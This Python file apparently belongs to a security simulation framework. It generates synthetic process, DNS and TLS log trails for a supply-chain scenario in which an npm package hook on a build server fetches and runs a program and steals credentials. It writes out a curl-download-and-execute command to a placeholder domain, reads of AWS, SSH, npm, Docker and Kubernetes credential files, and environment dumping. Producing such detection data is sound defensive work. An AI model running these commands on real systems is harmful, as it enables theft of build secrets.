"""A package that a build fetches has a hook: it brings a second program, reads the secrets that lie on the build server, and sends them away."""

from __future__ import annotations

from vidocq.simulation.audit import Account, Trail
from vidocq.simulation.line import Line, Scenario, Stage, Step, Story
from vidocq.simulation.network import resolve
from vidocq.simulation.words import CHANNEL, NATURE
from vidocq.simulation.zeek import tls

BUILDER = Account(997, "runner")
_READ = (("cat", "/home/runner/.aws/credentials"), ("cat", "/home/runner/.npmrc"), ("cat", "/home/runner/.ssh/id_ed25519"), ("cat", "/home/runner/.docker/config.json"), ("cat", "/home/runner/.git-credentials"), ("cat", "/home/runner/.kube/config"))


def play(stage: Stage) -> Story:
    firm, rng = stage.firm, stage.rng
    at, host, address = stage.moment(8.5, 16), firm.servers["build"], stage.strangers[0]
    domain = f"{rng.choice(CHANNEL)}.{rng.choice(NATURE)}{rng.choice(NATURE)}.example"
    trail, package = Trail(host, rng), f"{rng.choice(NATURE)}-{rng.choice(('utils', 'colors', 'parser', 'stream', 'loader'))}"
    work = f"/home/runner/work/shop/{rng.randrange(10**6)}"
    shell = trail.start(at, 1, "/usr/bin/bash", "bash", "-e", f"{work}/_temp/step.sh", account=BUILDER, cwd=work)
    npm = trail.start(at + 3, shell, "/usr/bin/node", "node", "/usr/bin/npm", "ci", cwd=work)
    hook = trail.start(at + 14, npm, "/usr/bin/dash", "sh", "-c", "node setup.js", cwd=f"{work}/node_modules/{package}")
    node = trail.start(at + 14.2, hook, "/usr/bin/node", "node", "setup.js", cwd=f"{work}/node_modules/{package}")
    program = rng.choice((f"/tmp/.{package}", f"/dev/shm/{rng.choice(NATURE)}", f"/var/tmp/.cache-{rng.randrange(999)}"))
    fetch = trail.start(at + 16, node, "/usr/bin/dash", "/bin/sh", "-c", f"curl -fsSL https://{domain}/{package} -o {program} && chmod +x {program} && {program} &", cwd=work)
    curl = trail.start(at + 16.1, fetch, "/usr/bin/curl", "curl", "-fsSL", f"https://{domain}/{package}", "-o", program, cwd=work)
    trail.connect(at + 16.3, curl, address, 443)
    trail.write(at + 18, curl, program)
    trail.start(at + 18.5, fetch, "/usr/bin/chmod", "chmod", "+x", program, cwd=work)
    net: list[Line] = [*resolve(firm, rng, at + 16.2, host.ip, domain, (address,)), *tls(rng, at + 16.3, host.ip, address, domain, 2, 900, rng.randint(1_000_000, 7_000_000), "curl")]
    first = (*trail.step(), *net)
    at += rng.uniform(19, 30)
    stealer = trail.start(at, fetch, program, program, cwd=work)
    trail.start(at + 1, trail.start(at + 0.9, stealer, "/usr/bin/dash", "sh", "-c", "env | base64 -w0"), "/usr/bin/env", "env")
    for n, (tool, path) in enumerate(rng.sample(_READ, rng.randint(3, 5))):
        trail.start(at + 2 + n, stealer, f"/usr/bin/{tool}", tool, path)
    trail.start(at + 9, stealer, "/usr/bin/find", "find", "/home/runner", "-name", "*.pem", "-o", "-name", ".env*")
    trail.refused(at + 11, stealer, "/etc/shadow")
    read = trail.step()
    at += rng.uniform(15, 60)
    for n in range(rng.randint(2, 5)):
        trail.connect(at + n * 5, stealer, address, 443)
        read_out = tls(rng, at + n * 5 + 0.1, host.ip, address, domain, 3, rng.randint(20_000, 400_000), 900, "go")
        trail.lines += read_out
    trail.delete(at + 40, stealer, program)
    steps = (
        Step("1-hook", "a package's hook fetches a program and starts it", ("T1195.002", "T1105"), tuple(sorted(first, key=lambda line: line.at)), (("host", host.name), ("domain", domain), ("ip", address))),
        Step("2-secrets", "the secrets of the build are read", ("T1552.001",), read, (("host", host.name),)),
        Step("3-sent", "they are sent away, and the program is removed", ("T1041", "T1070.004"), trail.step(), (("ip", address), ("host", host.name))),
    )
    return Story("a package's hook steals the secrets of the build server", steps, (("host", host.name), ("ip", host.ip), ("ip", address), ("domain", domain)))


SCENARIO = Scenario("supply-chain-package", "mixed", play, what="a package's hook on the build server brings a program that reads secrets and sends them away")
